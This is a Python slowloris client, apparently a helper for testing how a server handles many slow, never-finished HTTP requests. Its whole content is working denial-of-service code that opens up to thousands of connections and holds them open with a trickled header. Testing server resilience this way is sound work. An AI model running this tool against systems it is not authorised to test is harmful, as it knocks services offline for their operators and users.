#!/usr/bin/env python3
"""trickle: a slowloris client. Opens N connections from a source address to HOST:PORT and
sends one byte of an endless request header on each, every second, for a while.

    trickle.py -s 127.0.0.2 -n 2000 -t 20 HOST PORT

Prints "OPEN n" once every connection was attempted, then, every second, "ALIVE n" (how many
are still open: a server that accepts and holds them shows n near N; one that refuses or
times them out shows few). Asserts nothing: the test script decides."""
import argparse
import errno
import selectors
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("-s", "--source", default="127.0.0.2")
    ap.add_argument("-n", "--count", type=int, default=2000)
    ap.add_argument("-t", "--seconds", type=float, default=20)
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    a = ap.parse_args()

    head = b"POST /ussd HTTP/1.1\r\nHost: x\r\nX-a: " + b"a" * 10000
    socks = []
    for _ in range(a.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((a.source, 0))
            s.connect_ex((a.host, a.port))
        except OSError as e:
            s.close()
            if e.errno in (errno.EMFILE, errno.ENFILE):
                break
            continue
        socks.append([s, 0])
    print("OPEN %d" % len(socks), flush=True)

    end = time.monotonic() + a.seconds
    while time.monotonic() < end and socks:
        alive = []
        for ent in socks:
            s, off = ent
            try:
                n = s.send(head[off:off + 1])
                ent[1] = (off + n) % len(head)
                alive.append(ent)
            except BlockingIOError:
                alive.append(ent)	# not connected yet (still in the backlog)
            except OSError:
                s.close()
        socks = alive
        print("ALIVE %d" % len(socks), flush=True)
        time.sleep(1)
    for s, _ in socks:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
